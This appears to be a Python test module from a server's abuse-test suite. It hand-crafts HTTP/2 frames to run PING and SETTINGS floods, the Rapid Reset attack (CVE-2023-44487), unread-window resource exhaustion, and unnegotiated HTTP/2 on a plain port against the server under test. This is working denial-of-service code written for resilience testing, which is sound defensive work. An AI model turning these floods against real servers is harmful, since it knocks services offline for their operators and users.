"""The attacks in HTTP/2: over TLS, and on the plain port, which must reject it. Frames are made by hand."""

import random
import struct

import trio

from tests.abuse.attacks import LARGE_PAGE
from tests.abuse.ground import Ground

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE = 0, 1, 2, 3, 4, 6, 8
ACK, END_STREAM, END_HEADERS = 1, 1, 4
INITIAL_WINDOW_SIZE = 4
FRAMES_AT_ONCE = 1_000
UNREAD_CONNECTIONS = 165


def frame(kind: int, payload: bytes = b"", *, flags: int = 0, stream: int = 0) -> bytes:
    """One frame (RFC 9113, section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


OPENING = PREFACE + frame(SETTINGS)
GET_HEALTH = b"\x82\x87\x04\x08/healthz\x01\x10node.example.com"
""":method GET and :scheme https from the static table, :path and :authority as literals (RFC 7541)."""


async def ping_flood(ground: Ground) -> None:
    """8 connections of endless PINGs. Half of them never read a response."""
    await _flood(ground, frame(PING, b"whatever") * FRAMES_AT_ONCE)


async def settings_flood(ground: Ground) -> None:
    """8 connections of endless SETTINGS and PRIORITY. Half of them never read a response."""
    await _flood(ground, (frame(SETTINGS) + frame(PRIORITY, struct.pack(">IB", 0, 16), stream=1)) * FRAMES_AT_ONCE)


async def rapid_reset(ground: Ground) -> None:
    """8 connections that send requests and cancel them at once (CVE-2023-44487)."""

    async def one(ground: Ground) -> None:
        async with ground.tls_connection() as stream:
            await stream.send_all(OPENING)
            number = 1
            while True:
                pairs = range(number, number + 2 * FRAMES_AT_ONCE, 2)
                number = pairs.stop
                await stream.send_all(b"".join(_cancelled(pair) for pair in pairs))
                ground.counts["frames"] += 2 * FRAMES_AT_ONCE

    await ground.many(8, one)


async def unread_http2(ground: Ground) -> None:
    """165 connections that request a large page 32 times and open no window for it."""
    first = b"\x82\x87\x44" + bytes([len(LARGE_PAGE)]) + LARGE_PAGE.encode() + b"\x41\x10node.example.com"
    asked = [first] + 31 * [b"\x82\x87\xbf\xbe"]  # the same by reference
    sent = PREFACE + frame(SETTINGS, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
    for number, head in enumerate(asked):
        sent += frame(HEADERS, head, flags=END_STREAM | END_HEADERS, stream=2 * number + 1)

    async def one(ground: Ground) -> None:
        async with ground.tls_connection() as stream:
            await stream.send_all(sent)
            ground.counts["requests"] += len(asked)
            ground.counts["bytes"] = min(ground.counts["agreed on h2"], UNREAD_CONNECTIONS) * len(sent)
            await _read(stream)

    await ground.many(UNREAD_CONNECTIONS, one)


async def http2_on_the_plain_port(ground: Ground) -> None:
    """8 connections that speak HTTP/2 without agreement, some after an upgrade request."""
    upgrade = b"connection: upgrade, http2-settings\r\nupgrade: h2c\r\nhttp2-settings: AAMAAABkAAQAAP__\r\n\r\n"
    openings = (OPENING, b"GET /healthz HTTP/1.1\r\nhost: node.example.com\r\n" + upgrade + OPENING)

    async def one(ground: Ground) -> None:
        async with ground.connection() as stream:
            await stream.send_all(random.choice(openings) + frame(PING, b"whatever") * FRAMES_AT_ONCE)
            ground.counts["frames"] += FRAMES_AT_ONCE
            answer = b""
            while more := await stream.receive_some(65_536):
                answer = (answer + more)[:32]
                if not b"HTTP/1.1 ".startswith(answer[:9]) or answer.startswith(b"HTTP/1.1 101"):
                    ground.counts["spoke HTTP/2"] += 1
                    return

    await ground.many(8, one)


async def _flood(ground: Ground, frames: bytes) -> None:
    async def one(ground: Ground) -> None:
        reads = random.random() < 0.5
        async with ground.tls_connection() as stream:
            await stream.send_all(OPENING)
            async with trio.open_nursery() as nursery:
                if reads:
                    nursery.start_soon(_read, stream)
                while True:
                    await stream.send_all(frames)
                    ground.counts["frames"] += FRAMES_AT_ONCE

    await ground.many(8, one)


async def _read(stream: "trio.SSLStream[trio.SocketStream]") -> None:
    while await stream.receive_some(65_536):
        pass


def _cancelled(stream: int) -> bytes:
    asked = frame(HEADERS, GET_HEALTH, flags=END_STREAM | END_HEADERS, stream=stream)
    return asked + frame(RST_STREAM, struct.pack(">I", 8), stream=stream)
